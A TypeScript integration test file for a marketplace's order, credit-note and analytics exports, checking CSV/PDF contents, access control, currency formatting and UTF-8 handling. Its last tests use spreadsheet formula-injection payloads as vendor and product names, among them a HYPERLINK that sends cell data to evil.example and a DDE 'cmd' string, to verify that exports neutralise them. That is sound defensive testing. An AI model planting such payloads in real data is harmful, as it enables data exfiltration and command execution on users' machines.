import { env, SELF } from "cloudflare:test";
import { parse } from "csv-parse/sync";
import { extractText, getDocumentProxy } from "unpdf";
import { beforeAll, describe, expect, it } from "vitest";
import { refreshRollups } from "../../src/analytics/refresh";
import { database } from "../../src/db/client";
import { seedOpenSubOrders } from "../../src/dev/sla-watcher-bench";
import { displayAmount } from "../../src/domain/money";
import { csv } from "../../src/exports/csv";
import { EXPORT_PAGE_ORDERS, MAX_PDF_ORDERS, orderListPdf } from "../../src/exports/order-list";
import { renderPdf } from "../../src/exports/pdf";
import { ADMIN, api, newCustomer, tokenFor, uid } from "../support/api";
import { newProduct, newSku, newVendor, newWarehouse } from "../support/catalog";
import { meteredRequest } from "../support/invocation-budget";
import { BENGALURU, checkout, MUMBAI, pay, stockedSku } from "../support/marketplace";

async function download(path: string, token: string) {
  return SELF.fetch(`https://oms.test${path}`, { headers: { authorization: `Bearer ${token}` } });
}

async function pdfText(res: Response): Promise<string> {
  expect(res.headers.get("content-type")).toBe("application/pdf");
  const doc = await getDocumentProxy(new Uint8Array(await res.arrayBuffer()));
  const { text } = await extractText(doc, { mergePages: true });
  return text;
}

/** "1234.50" as 123450: the CSV's exact decimals back to minor units, with no float in between. */
const minor = (decimal: string) => Number(decimal.replace(".", ""));

type CsvRow = Record<string, string>;
const rowsOf = (csv: string): CsvRow[] => parse(csv, { columns: true, skip_empty_lines: true });

/** Three paid orders, each with a sub-order from vendor A (Bengaluru) and one from vendor B (Mumbai). */
let scene: {
  a: Awaited<ReturnType<typeof stockedSku>>;
  b: Awaited<ReturnType<typeof stockedSku>>;
  shopper: { customerId: string; token: string };
  orderIds: string[];
  vendorA: string;
  vendorB: string;
};

beforeAll(async () => {
  const a = await stockedSku({ warehouses: [{ at: BENGALURU, onHand: 20 }], priceMinor: 123_450 });
  const b = await stockedSku({ warehouses: [{ at: MUMBAI, onHand: 20 }], priceMinor: 99_999 });
  const shopper = await newCustomer();
  const orderIds: string[] = [];
  for (let i = 0; i < 3; i++) {
    const placed = await checkout(shopper.token, [
      { skuId: a.skuId, qty: i + 1 },
      { skuId: b.skuId, qty: 1 },
    ]);
    expect(placed.status).toBe(201);
    expect((await pay(shopper.token, placed.body.payment.id)).status).toBe(200);
    orderIds.push(placed.body.order.id);
  }
  scene = {
    a,
    b,
    shopper,
    orderIds,
    vendorA: await tokenFor("vendor", { vendorId: a.vendorId }),
    vendorB: await tokenFor("vendor", { vendorId: b.vendorId }),
  };
});

describe("order list exports", () => {
  it("CSV parses back to the list's own numbers, one row per sub-order", async () => {
    const res = await download(`/v1/orders/export?format=csv&vendorId=${scene.a.vendorId}`, ADMIN);
    expect(res.status).toBe(200);
    expect(res.headers.get("content-type")).toBe("text/csv; charset=utf-8");
    expect(res.headers.get("content-disposition")).toMatch(/^attachment; filename="orders-.*\.csv"$/);
    expect(res.headers.get("x-export-orders")).toBe("3");
    const rows = rowsOf(await res.text());
    expect(rows).toHaveLength(6);
    const list = await api("GET", `/v1/orders?vendorId=${scene.a.vendorId}`, { token: ADMIN });
    for (const o of list.body.items) {
      const mine = rows.filter((r) => r.order_id === o.id);
      expect(mine.map((r) => minor(r.order_total!))).toEqual(o.subOrders.map(() => o.total.amountMinor));
      expect(mine.map((r) => [r.sub_order_id, r.vendor_id, r.sub_order_status, minor(r.sub_order_total!)])).toEqual(
        o.subOrders.map((s: any) => [s.id, s.vendorId, s.status, s.total.amountMinor]),
      );
      expect(mine.every((r) => r.currency === "INR" && r.order_status === o.status)).toBe(true);
    }
    expect(rows.map((r) => r.order_id)).toEqual(list.body.items.flatMap((o: any) => o.subOrders.map(() => o.id)));
  });

  it("a vendor's CSV holds only its own sub-orders and no order totals", async () => {
    const res = await download("/v1/orders/export?format=csv&sort=createdAt", scene.vendorA);
    expect(res.status).toBe(200);
    const rows = rowsOf(await res.text());
    const list = await api("GET", "/v1/orders?sort=createdAt", { token: scene.vendorA });
    expect(rows.map((r) => r.order_id)).toEqual(list.body.items.map((o: any) => o.id));
    expect(rows.map((r) => r.order_id).sort()).toEqual([...scene.orderIds].sort());
    expect(rows.every((r) => r.vendor_id === scene.a.vendorId)).toBe(true);
    expect(Object.keys(rows[0]!)).not.toContain("order_total");
    expect(rows.map((r) => minor(r.sub_order_total!))).toEqual(
      list.body.items.map((o: any) => o.subOrders[0].total.amountMinor),
    );
  });

  it("a vendor may not export another vendor's orders or warehouse (404), nor a customer any (403)", async () => {
    expect((await download(`/v1/orders/export?vendorId=${scene.b.vendorId}`, scene.vendorA)).status).toBe(404);
    const warehouse = scene.b.warehouseIds[0];
    expect((await download(`/v1/orders/export?warehouseId=${warehouse}`, scene.vendorA)).status).toBe(404);
    expect((await download("/v1/orders/export", scene.shopper.token)).status).toBe(403);
  });

  it("PDF carries the headline figures, in rupees with the ₹ sign", async () => {
    const res = await download(`/v1/orders/export?format=pdf&vendorId=${scene.a.vendorId}`, ADMIN);
    expect(res.status).toBe(200);
    expect(res.headers.get("x-export-orders")).toBe("3");
    const text = await pdfText(res);
    const list = await api("GET", `/v1/orders?vendorId=${scene.a.vendorId}`, { token: ADMIN });
    const total = list.body.items.reduce((n: number, o: any) => n + o.total.amountMinor, 0);
    const rupees = new Intl.NumberFormat("en-IN", { minimumFractionDigits: 2 }).format(total / 100);
    expect(text).toContain("Orders");
    expect(text).toContain(`₹${rupees}`);
    for (const id of scene.orderIds) expect(text).toContain(id);
    expect(text).toContain("Orders a day (UTC)");
  });

  it("a PDF with no orders gives its zero total in the marketplace's own currency", async () => {
    const nobody = uid("ven");
    const pdf = await orderListPdf(
      database(env),
      { vendorId: nobody, ownVendorId: nobody, ascending: false },
      "vendor",
      {
        filter: "Vendor with no orders",
        asOf: new Date().toISOString(),
        currency: "USD",
      },
    );
    const text = await pdfText(new Response(pdf, { headers: { "content-type": "application/pdf" } }));
    expect(text).toContain("$0.00");
    expect(text).not.toContain("₹");
  });

  it("a vendor's PDF sums its own sub-orders only", async () => {
    const res = await download("/v1/orders/export?format=pdf", scene.vendorA);
    expect(res.status).toBe(200);
    const text = await pdfText(res);
    const rows = rowsOf(await (await download("/v1/orders/export", scene.vendorA)).text());
    const sum = rows.reduce((n, r) => n + minor(r.sub_order_total!), 0);
    expect(text).toContain(`₹${new Intl.NumberFormat("en-IN", { minimumFractionDigits: 2 }).format(sum / 100)}`);
    expect(text).not.toContain(scene.b.vendorId);
  });
});

describe("a long export", () => {
  const count = EXPORT_PAGE_ORDERS * 2 + 200;
  let vendorId = "";
  beforeAll(async () => {
    const [customer, vendor] = await Promise.all([newCustomer(), newVendor()]);
    vendorId = vendor.id;
    const tag = uid("x")
      .toLowerCase()
      .replace(/[^a-z0-9]/g, "")
      .slice(0, 24);
    const seeded = await seedOpenSubOrders(env, {
      tag,
      count,
      nudgeEvery: 1,
      at: new Date(),
      customerId: customer.customerId,
      vendorId,
    });
    expect(seeded).toMatchObject({ ok: true, seeded: count });
  });

  it(`streams ${count} orders in pages of ${EXPORT_PAGE_ORDERS}, one query a page`, async () => {
    const r = await meteredRequest("GET", `/v1/orders/export?vendorId=${vendorId}`, { token: ADMIN });
    expect(r.status).toBe(200);
    const rows = rowsOf(r.body as string);
    expect(rows).toHaveLength(count);
    expect(new Set(rows.map((x) => x.order_id)).size).toBe(count);
    expect(rows.every((x) => x.sub_order_total === "199.00")).toBe(true);
    // Token, count, then ceil(count / page) + 1 pages at most (the last may come back short or empty).
    expect(r.spend.queries).toBeLessThanOrEqual(Math.ceil(count / EXPORT_PAGE_ORDERS) + 4);
  });

  it(`refuses a PDF of more than ${MAX_PDF_ORDERS} orders before sending anything`, async () => {
    const r = await api("GET", `/v1/orders/export?format=pdf&vendorId=${vendorId}`, { token: ADMIN });
    expect(r.status).toBe(422);
    expect(r.body.errors[0].message).toContain(`${count} orders match`);
  });
});

describe("credit notes", () => {
  it("as a PDF, for the shopper, the vendor and ops; 404 to anyone else", async () => {
    const shopper = await newCustomer();
    const placed = await checkout(shopper.token, [
      { skuId: scene.a.skuId, qty: 1 },
      { skuId: scene.b.skuId, qty: 1 },
    ]);
    const paid = await pay(shopper.token, placed.body.payment.id);
    const sub = paid.body.subOrders.find((s: any) => s.vendorId === scene.a.vendorId);
    const cancelled = await api("POST", `/v1/sub-orders/${sub.id}/cancel`, {
      token: scene.vendorA,
      body: { reason: "cannot source it" },
    });
    expect(cancelled.status).toBe(200);
    const note = await env.DB.prepare("select id, amount_minor as amount from credit_notes where sub_order_id = ?")
      .bind(sub.id)
      .first<{ id: string; amount: number }>();
    expect(note).not.toBeNull();
    const path = `/v1/credit-notes/${note!.id}/pdf`;
    const rupees = new Intl.NumberFormat("en-IN", { minimumFractionDigits: 2 }).format(note!.amount / 100);
    for (const token of [shopper.token, scene.vendorA, ADMIN]) {
      const res = await download(path, token);
      expect(res.status).toBe(200);
      const text = await pdfText(res);
      expect(text).toContain(`₹${rupees}`);
      expect(text).toContain(sub.id);
    }
    for (const token of [scene.vendorB, scene.shopper.token]) expect((await download(path, token)).status).toBe(404);
    expect((await download("/v1/credit-notes/cn_nope/pdf", ADMIN)).status).toBe(404);
  });

  it("is dated on the marketplace's day, the one its financial year is counted by", async () => {
    const shopper = await newCustomer();
    const placed = await checkout(shopper.token, [{ skuId: scene.a.skuId, qty: 1 }]);
    const paid = await pay(shopper.token, placed.body.payment.id);
    const sub = paid.body.subOrders[0];
    const cancelled = await api("POST", `/v1/sub-orders/${sub.id}/cancel`, {
      token: scene.vendorA,
      body: { reason: "cannot source it" },
    });
    expect(cancelled.status).toBe(200);
    // Issued at 01:30 on 1 April 2027 in India (20:00 UTC the day before): the first note of 2027-28.
    const note = await env.DB.prepare(
      "update credit_notes set created_at = '2027-03-31T20:00:00Z', financial_year = 2027 where sub_order_id = ? returning id, number",
    )
      .bind(sub.id)
      .first<{ id: string; number: number }>();
    const text = await pdfText(await download(`/v1/credit-notes/${note!.id}/pdf`, ADMIN));
    expect(text).toContain(`CN/2027-28/${String(note!.number).padStart(6, "0")}`);
    expect(text).toContain("Issued 2027-04-01 01:30 (UTC+05:30)");
    expect(text).not.toContain("2027-03-31");
  });

  it("is listed with its PDF on the order for the shopper and ops, on the sub-order for its vendor, and for no one else", async () => {
    const shopper = await newCustomer();
    const placed = await checkout(shopper.token, [
      { skuId: scene.a.skuId, qty: 1 },
      { skuId: scene.b.skuId, qty: 1 },
    ]);
    const paid = await pay(shopper.token, placed.body.payment.id);
    const orderId = paid.body.id as string;
    const subA = paid.body.subOrders.find((s: any) => s.vendorId === scene.a.vendorId).id as string;
    const subB = paid.body.subOrders.find((s: any) => s.vendorId === scene.b.vendorId).id as string;
    expect(
      (await api("POST", `/v1/sub-orders/${subA}/cancel`, { token: scene.vendorA, body: { reason: "out of stock" } }))
        .status,
    ).toBe(200);
    const row = await env.DB.prepare("select id, amount_minor as amount from credit_notes where sub_order_id = ?")
      .bind(subA)
      .first<{ id: string; amount: number }>();
    const listed = {
      id: row!.id,
      subOrderId: subA,
      number: expect.stringMatching(/^CN\/\d{4}(-\d\d)?\/\d{6}$/),
      amountMinor: row!.amount,
      currency: "INR",
      issuedAt: expect.any(String),
      pdfUrl: `/v1/credit-notes/${row!.id}/pdf`,
    };

    // The shopper on its order page and ops on the order detail.
    for (const token of [shopper.token, ADMIN, await tokenFor("ops")]) {
      const order = await api("GET", `/v1/orders/${orderId}`, { token });
      expect(order.body.creditNotes).toEqual([expect.objectContaining(listed)]);
      const res = await download(order.body.creditNotes[0].pdfUrl, token);
      expect(res.status).toBe(200);
      // The document carries the number it is listed by.
      expect(await pdfText(res)).toContain(order.body.creditNotes[0].number);
    }
    // Vendor A on the order and on its sub-order; vendor B, on the same order, sees none of A's.
    const aOrder = await api("GET", `/v1/orders/${orderId}`, { token: scene.vendorA });
    expect(aOrder.body.creditNotes).toEqual([expect.objectContaining(listed)]);
    const aSub = await api("GET", `/v1/sub-orders/${subA}`, { token: scene.vendorA });
    expect(aSub.body.creditNotes).toEqual([expect.objectContaining(listed)]);
    expect((await download(aSub.body.creditNotes[0].pdfUrl, scene.vendorA)).status).toBe(200);
    expect((await api("GET", `/v1/orders/${orderId}`, { token: scene.vendorB })).body.creditNotes).toEqual([]);
    expect((await api("GET", `/v1/sub-orders/${subB}`, { token: scene.vendorB })).body.creditNotes).toEqual([]);
    // Another shopper does not see the order at all.
    expect((await api("GET", `/v1/orders/${orderId}`, { token: scene.shopper.token })).status).toBe(404);

    // Vendor A's earnings list the note with its PDF too.
    const earnings = await api("GET", `/v1/vendors/${scene.a.vendorId}/earnings/sub-orders?limit=100`, {
      token: scene.vendorA,
    });
    const earned = earnings.body.items.find((e: any) => e.subOrderId === subA);
    expect(earned.creditNotes).toEqual([expect.objectContaining({ id: row!.id, pdfUrl: listed.pdfUrl })]);
  });
});

/** Refreshes the roll-ups until they have caught up with the event log, as the queue's continuations would. */
async function caughtUp() {
  for (let i = 0; i < 1_000; i++) {
    const run = await refreshRollups(env, new Date());
    if (!run.continued && !run.conflicted) return;
  }
  throw new Error("the roll-ups never caught up");
}

const inr = (minor: number) => `₹${new Intl.NumberFormat("en-IN", { minimumFractionDigits: 2 }).format(minor / 100)}`;

describe("analytics report exports", () => {
  beforeAll(caughtUp);

  it("the platform report: CSV parses back to the API's daily figures; the PDF has the GMV in ₹ and as of when", async () => {
    const json = await api("GET", "/v1/analytics/platform", { token: ADMIN });
    expect(json.status).toBe(200);
    expect(json.body.totals.gmvMinor).toBeGreaterThan(0);
    const csv = await download("/v1/analytics/platform/export?format=csv", ADMIN);
    expect(csv.status).toBe(200);
    expect(csv.headers.get("content-disposition")).toMatch(/^attachment; filename="platform-.*\.csv"$/);
    const rows = rowsOf(await csv.text());
    // The cells are decimals: no column is named for minor units, basis points or ×100.
    expect(Object.keys(rows[0]!).filter((name) => /(Minor|Bps|X100)$/.test(name))).toEqual([]);
    expect(rows.map((r) => [r.day, minor(r.gmv!), Number(r.ordersPaid), Number(r.subOrders), r.as_of])).toEqual(
      json.body.days.map((d: any) => [d.day, d.gmvMinor, d.ordersPaid, d.subOrders, json.body.asOf]),
    );
    const text = await pdfText(await download("/v1/analytics/platform/export?format=pdf", ADMIN));
    expect(text).toContain(inr(json.body.totals.gmvMinor));
    expect(text).toContain(String(json.body.totals.ordersPaid));
    expect(text).toContain("GMV a day");
    expect(text).toContain(`As of ${json.body.asOf.slice(0, 10)} ${json.body.asOf.slice(11, 16)} UTC`);
  });

  it("top vendors: CSV rows are the API's items", async () => {
    const json = await api("GET", "/v1/analytics/platform/top-vendors?limit=50", { token: ADMIN });
    const rows = rowsOf(await (await download("/v1/analytics/platform/top-vendors/export?limit=50", ADMIN)).text());
    expect(rows.map((r) => [r.vendorId, minor(r.gmv!), Number(r.units)])).toEqual(
      json.body.items.map((v: any) => [v.vendorId, v.gmvMinor, v.units]),
    );
    const text = await pdfText(await download("/v1/analytics/platform/top-vendors/export?format=pdf&limit=50", ADMIN));
    expect(text).toContain(inr(json.body.totals.gmvMinor));
    // Vendors' sales leave cancelled sub-orders out: named as such, never as the platform's GMV.
    expect(text).toContain("Sales a day");
    expect(text).not.toContain("GMV");
  });

  it("a vendor's reports: its own as CSV and PDF; another vendor's 404; not the platform's (403)", async () => {
    const base = `/v1/analytics/vendors/${scene.a.vendorId}`;
    const json = await api("GET", base, { token: scene.vendorA });
    expect(json.body.totals.salesMinor).toBeGreaterThan(0);
    const rows = rowsOf(await (await download(`${base}/export`, scene.vendorA)).text());
    expect(Object.keys(rows[0]!)).toEqual(expect.arrayContaining(["sales", "refunded"]));
    expect(Object.keys(rows[0]!).filter((name) => /(Minor|Bps|X100)$/.test(name))).toEqual([]);
    expect(rows.map((r) => minor(r.sales!))).toEqual(json.body.days.map((d: any) => d.salesMinor));
    const text = await pdfText(await download(`${base}/export?format=pdf`, scene.vendorA));
    expect(text).toContain(inr(json.body.totals.salesMinor));
    const products = await api("GET", `${base}/products`, { token: scene.vendorA });
    const productRows = rowsOf(await (await download(`${base}/products/export`, scene.vendorA)).text());
    expect(Object.keys(productRows[0]!)).toEqual(expect.arrayContaining(["sales", "returnRatePct"]));
    expect(productRows.map((r) => [r.productId, Number(r.units), minor(r.sales!)])).toEqual(
      products.body.items.map((p: any) => [p.productId, p.units, p.salesMinor]),
    );
    expect(await pdfText(await download(`${base}/products/export?format=pdf`, scene.vendorA))).toContain(
      inr(products.body.totals.salesMinor),
    );
    const inventory = await download(`${base}/inventory/export?format=pdf`, scene.vendorA);
    expect(inventory.status).toBe(200);
    expect(await pdfText(inventory)).toContain("Inventory");
    for (const suffix of ["export", "products/export", "inventory/export"]) {
      expect((await download(`${base}/${suffix}`, scene.vendorB)).status).toBe(404);
    }
    expect((await download("/v1/analytics/platform/export", scene.vendorA)).status).toBe(403);
  });
});

describe("figures in a report's PDF", () => {
  it("print whole however large: a crore of rupees with its paise, in a column sized for less", async () => {
    const crore = displayAmount(1_234_567_890, "INR");
    const pdf = await renderPdf({
      title: "Large figures",
      lines: [],
      figures: [],
      chart: {
        title: "Paid out a day",
        bars: [{ label: "11-29", value: 1_234_567_890 }],
        format: (v) => displayAmount(v, "INR"),
      },
      table: {
        columns: [
          { title: "Day", width: 11 },
          { title: "Paid out", width: 12, right: true },
          { title: "Sub-orders", width: 9, right: true },
          { title: "Units", width: 8, right: true },
          { title: "Returned", width: 8, right: true },
          { title: "Cancelled", width: 9, right: true },
          { title: "Breaches", width: 8, right: true },
          { title: "Delivered", width: 9, right: true },
          { title: "Nudged", width: 9, right: true },
          { title: "Dispatched", width: 9, right: true },
          { title: "Refunded", width: 12, right: true },
        ],
        rows: [["2026-11-29", crore, "1", "1", "0", "0", "0", "1", "0", "1", crore]],
      },
    });
    const text = await pdfText(new Response(pdf, { headers: { "content-type": "application/pdf" } }));
    expect(text.split(crore).length - 1).toBeGreaterThanOrEqual(3);
    expect(text).not.toContain("…");
  });
});

describe("text people chose, in a CSV", () => {
  it("is never a formula a spreadsheet would run; amounts stay plain numbers", async () => {
    const evilVendor = '=HYPERLINK("https://evil.example/?x="&A1,"Open")';
    const evilTitle = "@SUM(1+1)*cmd|' /C calc'!A0";
    const vendor = await newVendor();
    const product = await newProduct(evilTitle);
    const sku = await newSku(vendor.id, product.id, { price: { amountMinor: 9_000_000, currency: "INR" } });
    const wh = await newWarehouse(vendor.id, { lat: BENGALURU.lat, lng: BENGALURU.lng });
    const counted = await api("PUT", `/v1/skus/${sku.id}/stock`, {
      token: ADMIN,
      body: { warehouseId: wh.id, onHand: 5, reason: "count" },
    });
    expect(counted.status).toBe(200);
    const vendorToken = await tokenFor("vendor", { vendorId: vendor.id });
    const renamed = await api("PATCH", `/v1/vendors/${vendor.id}`, { token: vendorToken, body: { name: evilVendor } });
    expect(renamed.status).toBe(200);
    const shopper = await newCustomer();
    const placed = await checkout(shopper.token, [{ skuId: sku.id, qty: 2 }]);
    expect(placed.status).toBe(201);
    expect((await pay(shopper.token, placed.body.payment.id)).status).toBe(200);
    // Its value holds it for review, and a held order is in no vendor's figures until released.
    expect((await api("POST", `/v1/orders/${placed.body.order.id}/approve`, { token: ADMIN })).status).toBe(200);

    const orders = rowsOf(await (await download(`/v1/orders/export?format=csv&vendorId=${vendor.id}`, ADMIN)).text());
    expect(orders.map((r) => [r.vendor_name, r.sub_order_total])).toEqual([[`'${evilVendor}`, "180000.00"]]);

    await caughtUp();
    const top = rowsOf(await (await download("/v1/analytics/platform/top-vendors/export?limit=100", ADMIN)).text());
    expect(top.filter((r) => r.vendorId === vendor.id).map((r) => r.vendorName)).toEqual([`'${evilVendor}`]);
    const products = rowsOf(
      await (await download(`/v1/analytics/vendors/${vendor.id}/products/export`, vendorToken)).text(),
    );
    expect(products.map((r) => [r.title, r.sales])).toEqual([[`'${evilTitle}`, "180000.00"]]);
  });

  it("opens in a spreadsheet as UTF-8: one byte-order mark before the header, so Devanagari and ₹ survive", async () => {
    const name = "श्री गणेश ट्रेडर्स";
    const sku = await stockedSku({ warehouses: [{ at: BENGALURU, onHand: 5 }], priceMinor: 50_000 });
    const vendorToken = await tokenFor("vendor", { vendorId: sku.vendorId });
    expect((await api("PATCH", `/v1/vendors/${sku.vendorId}`, { token: vendorToken, body: { name } })).status).toBe(
      200,
    );
    const shopper = await newCustomer();
    const placed = await checkout(shopper.token, [{ skuId: sku.skuId, qty: 1 }]);
    expect(placed.status).toBe(201);
    expect((await pay(shopper.token, placed.body.payment.id)).status).toBe(200);
    await caughtUp();
    for (const path of [
      `/v1/orders/export?format=csv&vendorId=${sku.vendorId}`,
      "/v1/analytics/platform/top-vendors/export?limit=100",
    ]) {
      const bytes = new Uint8Array(await (await download(path, ADMIN)).arrayBuffer());
      // Excel reads a CSV without the mark in the legacy code page, so the name would come out garbled.
      expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
      const text = new TextDecoder("utf-8", { fatal: true, ignoreBOM: true }).decode(bytes);
      expect(text.indexOf("\uFEFF", 1)).toBe(-1);
      expect(text).toContain(name);
    }
  });

  it("leaves numbers, negative ones too, as they are and marks only text that starts a formula", () => {
    const rows = [["-12.50", -1250, "+5", "-2+3", "=1+1", "\tcmd", "\rcmd", "Tea - green", "a=b", ""]];
    expect(parse(csv(rows), { relax_quotes: true, bom: true })).toEqual([
      ["-12.50", "-1250", "+5", "'-2+3", "'=1+1", "'\tcmd", "'\rcmd", "Tea - green", "a=b", ""],
    ]);
    // Full-width signs, which Apple Numbers reads as the ASCII ones.
    const wide = [["\uFF1D1+1", "\uFF0B1", "\uFF0D1", "\uFF20SUM(A1)", "Tea \uFF1D green"]];
    expect(parse(csv(wide), { relax_quotes: true, bom: true })).toEqual([
      ["'\uFF1D1+1", "'\uFF0B1", "'\uFF0D1", "'\uFF20SUM(A1)", "Tea \uFF1D green"],
    ]);
  });
});
